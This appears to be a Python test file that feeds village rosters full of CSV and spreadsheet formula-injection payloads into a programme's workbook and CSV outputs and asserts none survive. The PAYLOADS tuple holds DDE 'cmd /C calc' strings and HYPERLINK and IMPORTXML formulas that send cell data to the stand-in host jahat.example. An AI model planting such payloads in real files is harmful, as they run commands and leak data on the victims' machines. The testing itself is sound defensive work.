"""Whatever villages type, no file that we write holds a formula of theirs: all of them are opened and searched."""

import csv
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
import xlsxwriter
from click.testing import CliRunner
from lxml import etree

from payung.cli.check import check
from payung.journeys import matching_out
from payung.journeys import run as main_job
from tests.journeys import small_programme
from tests.journeys.small_programme import GEDUNG_WANI, TANJUNG_KARET, Silent

NOW = datetime(2024, 11, 25, 2, 0, tzinfo=UTC)
PAYLOADS = (
    '=HYPERLINK("http://jahat.example/?"&B2,"SITI")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd","/C calc","x")',
    "＝1+1",
    '=IMPORTXML("http://jahat.example","//a")',
)
HEADINGS = ("No", "NIK", "Nama", "Tanggal Lahir", "Pekerjaan", "Alamat", "Nama Ibu Kandung", "Desa")
THEIRS = re.compile(r"cmd|jahat|HYPERLINK|IMPORTXML|DDE|1\+1|SITI", re.IGNORECASE)
OUR_SUMS = re.compile(r"anggaran|rencana|rekap|template|Daftar", re.IGNORECASE)
"""Files in which we write formulas of our own."""


def rows(village: str, first: int) -> list[tuple[str, ...]]:
    """People whose names, addresses and mothers are formulas."""
    return [
        (
            str(number),
            f"170499050379{first + number:04d}",
            f"{payload} WARGA",
            "05-03-1979",
            "Petani",
            payload,
            f"{payload} IBU",
            village,
        )
        for number, payload in enumerate(PAYLOADS, 1)
    ]


def sent(folder: Path) -> None:
    """The same mischief as workbook and as CSV."""
    (folder / "rosters").mkdir(exist_ok=True)
    with xlsxwriter.Workbook(folder / "rosters" / "gedung wani.xlsx", {"strings_to_formulas": False}) as book:
        page = book.add_worksheet("=Usulan")
        page.write_row(0, 0, HEADINGS)
        for at, row in enumerate(rows(GEDUNG_WANI, 0), 1):
            page.write_row(at, 0, row)
    with (folder / "rosters" / "=tanjung karet.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([HEADINGS, *rows(TANJUNG_KARET, 100)])


def formulas(path: Path) -> list[str]:
    """The formulas of all sheets of a workbook."""
    with zipfile.ZipFile(path) as packed:
        parts = [packed.read(name) for name in packed.namelist() if name.startswith("xl/worksheets/")]
    found = [etree.fromstring(part).iter("{*}f") for part in parts if b"<" in part]
    return [one.text or "" for each in found for one in each]


def searched(folder: Path) -> int:
    """How many files were opened; fails at the first formula that nobody of us wrote."""
    opened = 0
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".xlsx":
            opened += 1
            for formula in formulas(path):
                assert OUR_SUMS.search(path.name), (path.name, formula)
                assert not THEIRS.search(formula), (path.name, formula)
        elif path.suffix == ".csv":
            opened += 1
            for record in csv.reader(path.read_text("utf-8").splitlines()):
                assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in record), path.name
    return opened


@pytest.mark.database
def test_no_file_of_a_programme_holds_a_formula_that_a_village_typed(own_database, tmp_path):
    programme = small_programme.write(tmp_path, seats=4)
    sent(tmp_path)
    out = tmp_path / "hasil"
    main_job.run(programme, out=out, name="=Rina", at=NOW, meter=Silent(), documents=True)
    for receiver in ("dukcapil", "bpjs"):
        matching_out.send(programme, receiver=receiver, out=tmp_path / "kirim" / receiver, name="Rina", at=NOW)
    assert searched(out) >= 5
    assert searched(tmp_path / "kirim") >= 2


def test_no_roster_that_goes_back_holds_a_formula(tmp_path):
    sent(tmp_path)
    asked = [str(tmp_path / "rosters"), "--demo", "--on", "2024-12-01", "--out", str(tmp_path / "kembali")]
    CliRunner().invoke(check, asked)
    assert searched(tmp_path / "kembali") == 2


def test_only_known_modules_write_formulas_or_workbooks_of_their_own():
    source = Path(main_job.__file__).parents[1]
    text = {path.relative_to(source).as_posix(): path.read_text("utf-8") for path in source.rglob("*.py")}
    writing = {name for name, code in text.items() if "write_formula" in code or "write_array_formula" in code}
    known = ("documents/budget", "documents/published", "documents/recap", "documents/template_", "law/budget_sheet")
    assert all(name.startswith(known) for name in writing), writing
    opening = {name for name, code in text.items() if "xlsxwriter.Workbook(" in code}
    allowed = {
        "documents/workbook.py",
        "law/budget_sheet.py",
        "journeys/demo/writing.py",
        "journeys/demo/workbook.py",
    }
    assert opening <= allowed, opening
